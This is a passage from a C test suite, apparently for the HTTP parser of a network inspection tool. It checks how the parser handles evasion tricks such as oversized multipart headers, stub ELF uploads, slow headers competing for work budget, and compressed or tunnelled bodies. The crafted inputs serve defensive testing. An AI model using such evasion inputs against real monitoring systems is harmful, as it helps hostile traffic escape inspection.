	ck_assert(caught.marked[COUNT_PROTO_HTTP_TUNNEL]);
	ck_assert_uint_eq(caught.counters.value[COUNT_PROTO_HTTP_TUNNEL], 1);
}
END_TEST

START_TEST(a_part_with_a_huge_head_is_said)
{
	one.n = 0;
	make_text(&one, "--x y\r\nContent-Disposition: form-data; name=\"");
	for (unsigned i = 0; i < 60000; i++)
		make_text(&one, "n");
	make_text(&one, "\"; filename=\"a\"\r\n\r\n\x7f" "ELF\2\1\1aaaaaaaaaaaaaaaa\r\n--x y--\r\n");
	make_body(&maker, FORM, made(&one));
	play(made(&maker), true, DIRECTION_IN);
	ck_assert(caught.marked[COUNT_PROTO_BUDGET]);
	ck_assert_uint_eq(count_kind(&caught, OBS_FILE), 2);
}
END_TEST

// --- What is lent ---

START_TEST(who_says_least_gives_way_and_is_said)
{
	struct lend *lend = lend_create((const uint32_t[LEND_KINDS]){[LEND_WORK] = 1});
	struct proto_flow flow = flow_of(DIRECTION_IN);
	struct counters counters = {{0}};
	struct proto_sink sink = {.emit = talk_catch, .uninspected = talk_mark, .user = &caught, .counters = &counters, .lend = lend};
	struct proto_input in = {.from_client = true, .from_outside = true, .flow = &flow};
	void *slow = calloc(1, proto_http.state_bytes), *other = calloc(1, proto_http.state_bytes);

	memset(&caught, 0, sizeof(caught));
	in.data = bytes_of_text("GET / HTTP/1.1\r\nX");
	ck_assert_int_eq(proto_http.feed(slow, &in, &sink), PARSE_MORE);
	in.data = bytes_of_text("GET / HTTP/1.1\r\n\r\n");
	ck_assert_int_eq(proto_http.feed(other, &in, &sink), PARSE_MORE);
	ck_assert_uint_eq(count_kind(&caught, OBS_HTTP_REQUEST), 1);
	ck_assert_uint_eq(lend_count(lend, LEND_WORK), 0);
	ck_assert(!caught.marked[COUNT_PROTO_CONTEXT_FULL]);
	in.data = bytes_of_text(": y\r\n\r\n");
	ck_assert_int_eq(proto_http.feed(slow, &in, &sink), PARSE_DONE);
	ck_assert(caught.marked[COUNT_PROTO_CONTEXT_FULL]);
	proto_http.release(slow, lend);
	proto_http.release(other, lend);
	free(slow);
	free(other);
	lend_destroy(lend);
}
END_TEST

static void add_evasions(Suite *suite)
{
	TCase *c = tcase_create("evasions");

	tcase_set_timeout(c, 120);
	tcase_add_loop_test(c, a_trick_is_followed_or_marked_however_cut, 0, sizeof(tricks) / sizeof(tricks[0]));
	tcase_add_test(c, a_framing_header_longer_than_is_read_is_said);
	tcase_add_test(c, a_look_up_across_the_longest_heads_end_is_found);
	tcase_add_test(c, more_open_requests_than_remembered_are_said);
	tcase_add_loop_test(c, a_coded_body_is_looked_at_as_a_clear_one, 0, sizeof(codings) / sizeof(codings[0]));
	tcase_add_test(c, gzip_with_all_its_fields_and_two_members);
	tcase_add_test(c, gzip_may_be_a_transfer_coding);
	tcase_add_test(c, the_kind_of_a_coded_answer_is_that_of_what_is_in_it);
	tcase_add_test(c, what_stands_behind_coded_bytes_is_searched_as_it_stands);
	tcase_add_test(c, a_class_that_is_deflate_too_is_a_class);
	tcase_add_test(c, a_coded_body_of_no_bytes_is_no_bad_one);
	tcase_add_test(c, more_layers_than_are_opened_are_said);
	tcase_add_test(c, bombs_are_given_up_and_after_the_third_nothing_is_opened);
	tcase_add_test(c, an_inflater_stops_at_its_limits);
	tcase_add_test(c, the_parts_of_a_form_are_files);
	tcase_add_test(c, more_windows_than_are_searched_are_said);
	tcase_add_test(c, look_ups_are_found_in_every_part_and_its_head);
	tcase_add_test(c, more_parts_than_are_looked_at_are_said);
	tcase_add_loop_test(c, a_boundary_that_may_be_read_in_two_ways_is_said, 0, sizeof(boundaries) / sizeof(boundaries[0]));
	tcase_add_test(c, a_tunnel_that_is_not_followed_is_said);
	tcase_add_test(c, what_was_said_behind_a_refused_connect_is_searched_and_said);
	tcase_add_test(c, a_part_with_a_huge_head_is_said);
	tcase_add_test(c, who_says_least_gives_way_and_is_said);
	suite_add_tcase(suite, c);
}
